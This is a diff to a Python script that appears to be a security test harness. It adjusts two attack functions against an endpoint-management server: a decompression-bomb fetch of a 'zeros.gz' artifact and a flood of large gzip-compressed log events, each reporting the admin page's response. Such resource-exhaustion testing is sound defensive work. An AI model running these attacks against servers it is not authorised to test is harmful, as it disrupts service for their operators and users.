@@ -197,7 +197,7 @@ def attack_gunzip(env: dict[str, Any]) -> str:
         env["attacker"].post(env["ep"] + "/upload/dumps", json=chunk.to_dict(), timeout=60)
     arts = env["admin_session"].get(f"{env['admin']}/endpoints/{env['bad_uuid']}/artifacts",
                                     timeout=30).json()["data"]
-    url = arts[0]["base-url"] + "zeros.gz"
+    url = env["admin"] + arts[0]["base-url"] + "zeros.gz"
     got = 0
     with env["admin_session"].get(url + "?raw=true&gunzip=true", stream=True, timeout=300) as r:
         status = r.status_code
@@ -222,9 +222,9 @@ def attack_huge_events(env: dict[str, Any]) -> str:
         env["attacker"].post(env["ep"] + "/logs", timeout=120,
                              data=gzip.compress(b"\n".join(lines) + b"\n", 1),
                              headers={"Content-Encoding": "gzip"})
-    res = env["admin_session"].get(
-        f"{env['admin']}/endpoints/{env['bad_uuid']}/logs?limit=10000&last=1000h", timeout=120)
-    return f"120 events of 3.9 MB, endpoint page -> {res.status_code}, {len(res.content) >> 10} KiB"
+    res = env["admin_session"].get(f"{env['admin']}/search", timeout=120, params={
+        "endpoint": env["bad_uuid"], "limit": "10000"})
+    return f"120 events of 3.9 MB, search page -> {res.status_code}, {len(res.content) >> 10} KiB"
 
 
 ATTACKS: dict[str, Callable[[dict[str, Any]], str]] = {
